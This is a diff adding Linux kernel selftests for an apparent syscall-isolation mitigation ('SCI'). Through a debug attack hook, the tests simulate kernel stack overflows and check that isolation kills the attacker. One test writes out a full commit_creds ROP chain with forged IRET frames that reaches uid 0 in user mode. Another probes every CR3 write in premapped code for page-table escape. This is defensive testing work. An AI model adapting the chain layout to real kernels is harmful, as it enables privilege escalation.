@@ -7,6 +7,7 @@
  * test that cannot fail.
  */
 #define _GNU_SOURCE
+#include <linux/types.h>
 #include <signal.h>
 
 #include "kselftest_harness.h"
@@ -15,6 +16,117 @@
 static int test_fd(void)
 {
 	return open(SCI_TEST_PATH, O_RDWR);
+}
+
+/* The attacker's hooks (sci_test.c, SCI_TEST_ATTACK): only with sci=on. */
+#define SCI_ATTACK_PATH		"/sys/kernel/debug/sci/attack"
+enum { SCI_ATTACK_RET, SCI_ATTACK_JMP, SCI_ATTACK_WRITE };
+#define SCI_ATTACK_MAX_WORDS	256
+#define SCI_ATTACK_KERNEL_CR3	0x5c1a77ac00000001ULL
+#define SCI_ATTACK_STACK	0x5c1a77ac10000000ULL
+
+struct sci_test_attack {
+	__u32 how;
+	__u32 len;
+	__u64 target;
+	__u64 data;
+	__u64 regs[16];	/* rax rbx rcx rdx rsi rdi rbp rsp r8 .. r15 */
+	__u64 landed;
+	__u64 landed_cr3;
+	__u64 sci_cr3;
+	__u64 kernel_cr3;
+};
+
+#define SCI_MAX_SITES		64
+struct sci_test_cr3_sites {
+	__u64 nr;
+	__u64 addr[SCI_MAX_SITES];
+	__u8 reg[SCI_MAX_SITES];
+};
+
+#define SCI_TEST_ATTACK		_IOWR('S', 15, struct sci_test_attack)
+#define SCI_TEST_CR3_SITES	_IOR('S', 16, struct sci_test_cr3_sites)
+#define SCI_TEST_ROOT_CRED	_IOR('S', 17, __u64)
+
+#define KERNEL_CS	0x10
+#define KERNEL_DS	0x18
+#define USER_DS		0x2b
+#define USER_CS		0x33
+
+/* Nearest kernel symbol at or below @addr, as "name+0xoff". */
+static void ksym_name(unsigned long addr, char *out, size_t len)
+{
+	static char buf[1 << 23];
+	static int n;
+	unsigned long best = 0, a;
+	char name[128], bestname[128] = "?";
+	char *line, *end;
+
+	if (!n)
+		n = sci_read_file("/proc/kallsyms", buf, sizeof(buf));
+	for (line = buf; n > 0 && line < buf + n; line = end + 1) {
+		end = strchr(line, '\n');
+		if (!end)
+			break;
+		if (sscanf(line, "%lx %*c %127s", &a, name) == 2 &&
+		    a <= addr && a > best) {
+			best = a;
+			snprintf(bestname, sizeof(bestname), "%s", name);
+		}
+	}
+	snprintf(out, len, "%s+0x%lx", bestname, addr - best);
+}
+
+/*
+ * How an attack in a child ended: the child writes its sci_test_attack
+ * result (if the ioctl came back) to a pipe.
+ */
+struct outcome {
+	int status;		/* wait status */
+	int have;		/* the ioctl returned: @a is valid */
+	struct sci_test_attack a;
+	char rec[1024];		/* /proc/PID/sci */
+};
+
+static int killed_by_sci(const struct outcome *o)
+{
+	return WIFSIGNALED(o->status) && WTERMSIG(o->status) == SIGKILL &&
+	       strstr(o->rec, "enforced: 1");
+}
+
+/* Did the attacker run its landing on tables other than the SCI tables? */
+static int escaped(const struct outcome *o)
+{
+	return o->have && o->a.landed && o->a.sci_cr3 &&
+	       o->a.landed_cr3 != o->a.sci_cr3;
+}
+
+/* Run @a from a child, isolated (every ioctl) or not; fill @o. */
+static void attack(struct sci_test_attack *a, int isolate, struct outcome *o)
+{
+	int fd = open(SCI_ATTACK_PATH, O_RDWR), pfd[2];
+	pid_t pid;
+
+	memset(o, 0, sizeof(*o));
+	o->status = -1;
+	if (fd < 0 || pipe(pfd))
+		return;
+	pid = fork();
+	if (pid == 0) {
+		close(pfd[0]);
+		if (isolate && sci_filter(__NR_ioctl, SECCOMP_RET_ISOLATE))
+			_exit(90);
+		if (ioctl(fd, SCI_TEST_ATTACK, a))
+			_exit(91);
+		if (write(pfd[1], a, sizeof(*a)) != sizeof(*a))
+			_exit(92);
+		_exit(0);
+	}
+	close(pfd[1]);
+	o->have = read(pfd[0], &o->a, sizeof(o->a)) == sizeof(o->a);
+	close(pfd[0]);
+	close(fd);
+	o->status = sci_reap(pid, o->rec, sizeof(o->rec));
 }
 
 /*
@@ -77,6 +189,196 @@ TEST(softirq_on_irq_stack)
 	ASSERT_EXIT0(status);
 	ASSERT_LT(4096, isolated);
 	ASSERT_EQ(oops, sci_read_long("/sys/kernel/oops_count"));
+}
+
+/* The end of the chain in user space: report the uid it runs with. */
+static int chain_pipe = -1;
+static char chain_stack[65536] __attribute__((aligned(16)));
+
+static void __attribute__((noreturn)) chain_user_landing(void)
+{
+	long uid = syscall(__NR_getuid);
+
+	if (write(chain_pipe, &uid, sizeof(uid)) != sizeof(uid))
+		syscall(__NR_exit_group, 93);
+	syscall(__NR_exit_group, 0);
+	__builtin_unreachable();
+}
+
+/*
+ * The claim, end to end: a stack overflow inside a syscall becomes root.
+ * The chain is the classic commit_creds(prepare_kernel_cred(0)) and a
+ * return to user mode: RET into restore_regs_and_return_to_kernel (premapped
+ * entry text: POP_REGS, then IRET from the stack) with %rdi = a root cred,
+ * IRET to commit_creds(), whose RET goes to
+ * swapgs_restore_regs_and_return_to_usermode and from there to user mode
+ * with a forged frame.  The cred is made by a hook beforehand (what
+ * prepare_kernel_cred(0) returns), so that the chain needs no gadget to
+ * move %rax.  The caller drops root first.  Unisolated, the chain must
+ * succeed (uid 0 in user mode): the test can fail.  Isolated, it must end
+ * in a kill by SCI, with no uid reported.
+ */
+static void run_chain(struct __test_metadata *_metadata, int isolate,
+		      long *uid, int *status, char *rec, size_t reclen)
+{
+	unsigned long rrk = sci_ksym("restore_regs_and_return_to_kernel");
+	unsigned long cc = sci_ksym("commit_creds");
+	unsigned long ret_user = sci_ksym("swapgs_restore_regs_and_return_to_usermode");
+	int fd = open(SCI_ATTACK_PATH, O_RDWR), pfd[2];
+	struct sci_test_attack a;
+	__u64 stack[64], cred = 0;
+	unsigned int n = 0;
+	pid_t pid;
+
+	ASSERT_LE(0, fd);
+	ASSERT_NE(0, rrk);
+	ASSERT_NE(0, cc);
+	ASSERT_NE(0, ret_user);
+	ASSERT_EQ(0, ioctl(fd, SCI_TEST_ROOT_CRED, &cred));
+	memset(stack, 0, sizeof(stack));
+	stack[n++] = rrk;
+	/* pt_regs: r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi */
+	n += 14;
+	stack[n++] = cred;			/* rdi */
+	stack[n++] = -1;			/* orig_ax */
+	stack[n++] = cc;			/* rip */
+	stack[n++] = KERNEL_CS;
+	stack[n++] = 0x2;			/* rflags: interrupts off */
+	stack[n] = SCI_ATTACK_STACK + 8 * (n + 2);	/* rsp: two words on */
+	n++;
+	stack[n++] = KERNEL_DS;
+	stack[n++] = ret_user;			/* commit_creds returns here */
+	n += 15;				/* user pt_regs: all zero */
+	stack[n++] = -1;
+	stack[n++] = (unsigned long)chain_user_landing;
+	stack[n++] = USER_CS;
+	stack[n++] = 0x202;
+	stack[n++] = (unsigned long)(chain_stack + sizeof(chain_stack) - 8);
+	stack[n++] = USER_DS;
+	memset(&a, 0, sizeof(a));
+	a.how = SCI_ATTACK_RET;
+	a.len = n;
+	a.data = (unsigned long)stack;
+
+	ASSERT_EQ(0, pipe(pfd));
+	pid = fork();
+	ASSERT_LE(0, pid);
+	if (pid == 0) {
+		close(pfd[0]);
+		chain_pipe = pfd[1];
+		if (setresuid(65534, 65534, 65534))
+			_exit(94);
+		if (isolate && sci_filter(__NR_ioctl, SECCOMP_RET_ISOLATE))
+			_exit(90);
+		ioctl(fd, SCI_TEST_ATTACK, &a);
+		_exit(95);	/* the chain did not run */
+	}
+	close(pfd[1]);
+	close(fd);
+	*uid = -1;
+	if (read(pfd[0], uid, sizeof(*uid)) != sizeof(*uid))
+		*uid = -1;
+	close(pfd[0]);
+	*status = sci_reap(pid, rec, reclen);
+}
+
+TEST(commit_creds_chain)
+{
+	long oops = sci_read_long("/sys/kernel/oops_count"), uid;
+	char rec[1024];
+	int status;
+
+	run_chain(_metadata, 0, &uid, &status, rec, sizeof(rec));
+	TH_LOG("unisolated: uid %ld in user mode, status %#x", uid, status);
+	ASSERT_EQ(0, uid);
+	ASSERT_EXIT0(status);
+
+	run_chain(_metadata, 1, &uid, &status, rec, sizeof(rec));
+	TH_LOG("isolated: uid %ld, status %#x, /proc/PID/sci: %s", uid, status,
+	       rec);
+	EXPECT_EQ(-1, uid);
+	EXPECT_TRUE(WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL);
+	EXPECT_NE(NULL, strstr(rec, "enforced: 1"));
+	EXPECT_EQ(oops, sci_read_long("/sys/kernel/oops_count"));
+}
+
+/*
+ * Class 1, premapped code that loads CR3.  The SCI tables premap the entry
+ * text, .noinstr.text and the retpoline thunks without any check: an
+ * attacker can jump to any instruction there.  A CR3 write with a register
+ * the attacker sets, followed by anything the attacker steers (a RET, an
+ * IRET from its stack), leaves the SCI tables for the full ones, where no
+ * fetch is checked.  Every such write (found by its bytes, so a write
+ * inside another instruction counts too) is tried with every register
+ * holding the CR3 of the task's full tables and a stack whose words lead
+ * to sci_test_landing(); the task must be killed, every time, and the
+ * landing must never run on the full tables.  The control: a RET straight
+ * to the landing, unisolated, lands.
+ */
+TEST(cr3_writes_in_premapped_code)
+{
+	long oops = sci_read_long("/sys/kernel/oops_count");
+	unsigned long landing = sci_ksym("sci_test_landing");
+	int fd = open(SCI_ATTACK_PATH, O_RDWR), bad = 0;
+	struct sci_test_cr3_sites sites;
+	__u64 stack[64];
+	struct sci_test_attack a;
+	struct outcome o;
+	unsigned int i, j;
+	char name[160];
+
+	ASSERT_LE(0, fd);
+	ASSERT_NE(0, landing);
+	memset(&sites, 0, sizeof(sites));
+	ASSERT_EQ(0, ioctl(fd, SCI_TEST_CR3_SITES, &sites));
+	close(fd);
+	TH_LOG("%llu CR3 writes in premapped code", sites.nr);
+	ASSERT_LT(0, sites.nr);
+
+	/* Control: the landing is reached and reports the tables it ran on. */
+	memset(&a, 0, sizeof(a));
+	stack[0] = landing;
+	a.how = SCI_ATTACK_RET;
+	a.len = 1;
+	a.data = (unsigned long)stack;
+	attack(&a, 0, &o);
+	ASSERT_EXIT0(o.status);
+	ASSERT_TRUE(o.have && o.a.landed && o.a.landed_cr3 == o.a.kernel_cr3);
+
+	for (i = 0; i < sites.nr; i++) {
+		memset(&a, 0, sizeof(a));
+		for (j = 0; j < 16; j++)
+			a.regs[j] = SCI_ATTACK_KERNEL_CR3;
+		if (sites.reg[i] == 4) {
+			/* mov %rsp,%cr3: jump there with %rsp set too. */
+			a.how = SCI_ATTACK_JMP;
+			a.target = sites.addr[i];
+		} else {
+			a.how = SCI_ATTACK_RET;
+			stack[0] = sites.addr[i];
+			/* A RET lands; POP_REGS + IRET too (iret frames of the landing). */
+			for (j = 1; j < 64; j++)
+				stack[j] = landing;
+			for (j = 17; j + 5 <= 64; j += 5) {
+				stack[j + 1] = KERNEL_CS;
+				stack[j + 2] = 0x2;
+				stack[j + 3] = SCI_ATTACK_STACK + 8 * 60;
+				stack[j + 4] = KERNEL_DS;
+			}
+			a.len = 64;
+			a.data = (unsigned long)stack;
+		}
+		attack(&a, 1, &o);
+		ksym_name(sites.addr[i], name, sizeof(name));
+		TH_LOG("%#llx %s (reg %u): status %#x%s%s, %s", sites.addr[i],
+		       name, sites.reg[i], o.status,
+		       killed_by_sci(&o) ? " killed by SCI" : "",
+		       escaped(&o) ? " ESCAPED to the full tables" : "",
+		       strstr(o.rec, "reason: ") ?: "no violation");
+		bad += !killed_by_sci(&o) || escaped(&o);
+	}
+	EXPECT_EQ(0, bad);
+	EXPECT_EQ(oops, sci_read_long("/sys/kernel/oops_count"));
 }
 
 TEST_HARNESS_MAIN
